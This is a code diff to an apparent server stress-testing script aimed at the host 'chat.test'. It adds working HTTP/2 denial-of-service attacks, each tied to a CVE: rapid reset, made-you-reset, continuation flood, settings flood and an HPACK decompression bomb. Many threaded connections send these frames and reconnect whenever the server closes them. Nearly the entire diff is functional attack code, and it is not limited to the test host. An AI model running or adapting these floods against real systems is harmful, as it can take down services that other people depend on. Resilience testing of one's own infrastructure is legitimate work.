@@ -12,11 +12,15 @@ from __future__ import annotations
 import asyncio
 import collections
 import contextlib
+import functools
 import json
+import select
 import socket
 import ssl
 import sys
+import threading
 import time
+from collections.abc import Callable
 
 HOST = "chat.test"
 PATIENCE = 15
@@ -169,7 +173,93 @@ def sessions(address: str, number: int) -> dict:
     return {"held": 0, "refused": 0, "ended": None, "answers": answers}
 
 
+# --- HTTP/2: each of some connections sends such frames as fast as it goes, and comes again when it is closed
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """A frame of HTTP/2 (RFC 9113, 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def text(value: str) -> bytes:
+    """A string of HPACK without Huffman coding (RFC 7541, 5.2), of up to 4,000 characters."""
+    size = len(value)
+    if size < 127:
+        return bytes([size]) + value.encode()
+    return bytes([127, (size - 127) & 127 | 128, (size - 127) >> 7]) + value.encode()
+
+
+# GET https://HOST/: three fields of the static table, the name of the host spelled out.
+HEAD = b"\x82\x87\x84\x01" + text(HOST)
+# A field of 3,900 characters for the table of HPACK, then 15,000 times the byte that stands for it.
+BOMB = HEAD + b"\x40" + text("x-bomb") + text("a" * 3900) + b"\xbe" * 12000
+
+FRAMES = {
+    # CVE-2023-44487: each request is taken back at once.
+    "rapid_reset": lambda stream: frame(1, 5, stream, HEAD) + frame(3, 0, stream, (8).to_bytes(4, "big")),
+    # CVE-2025-8671: a wrong frame makes the edge take it back.
+    "made_you_reset": lambda stream: frame(1, 5, stream, HEAD) + frame(8, 0, stream, bytes(4)),
+    # CVE-2024-27316 and its like: a head that never ends.
+    "continuation_flood": lambda stream: (
+        frame(1, 1, 1, HEAD) if stream == 1 else frame(9, 0, 1, b"\x00" + text(f"x-{stream}") + text("a" * 100))
+    ),
+    # CVE-2019-9515: each wants to be acknowledged.
+    "settings_flood": lambda stream: frame(4, 0, 0, b"\x00\x04\x00\x00\xff\xff"),
+    # CVE-2016-6581: 16 kB that mean 47 MB.
+    "hpack_bomb": lambda stream: frame(1, 5, stream, BOMB),
+}
+SECONDS = 10
+
+
+def http2(address: str, number: int, make: Callable[[int], bytes]) -> dict:
+    """Attack by `number` connections; `held` and `refused` count connections, `answers` how often they were closed."""
+    found: collections.Counter = collections.Counter()
+    end = time.monotonic() + SECONDS
+
+    def once() -> None:
+        secure = context()
+        secure.set_alpn_protocols(["h2"])
+        with secure.wrap_socket(socket.create_connection((address, 443), 10), server_hostname=HOST) as connection:
+            found["held"] += 1
+            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
+            connection.setblocking(False)
+            stream = 1
+            while time.monotonic() < end:
+                data = b"".join(make(number) for number in range(stream, stream + 100, 2))
+                stream += 100
+                while data and time.monotonic() < end:
+                    with contextlib.suppress(ssl.SSLWantReadError):
+                        while connection.recv(65536):
+                            pass
+                        raise ConnectionError  # it has ended
+                    try:
+                        data = data[connection.send(data) :]
+                    except ssl.SSLWantWriteError:
+                        select.select([connection], [connection], [], 0.1)
+
+    def come_again() -> None:
+        while time.monotonic() < end:
+            try:
+                once()
+            except (OSError, ssl.SSLError):
+                found["closed"] += 1
+
+    threads = [threading.Thread(target=come_again) for _ in range(number)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    refused = found["closed"] - found["held"]
+    return {
+        "held": found["held"],
+        "refused": max(0, refused),
+        "ended": None,
+        "answers": {"closed": found["closed"]},
+    }
+
+
 ATTACKS = {
+    **{name: functools.partial(http2, make=make) for name, make in FRAMES.items()},
     "slow_headers": slow_headers,
     "slow_bodies": slow_bodies,
     "slow_handshakes": slow_handshakes,
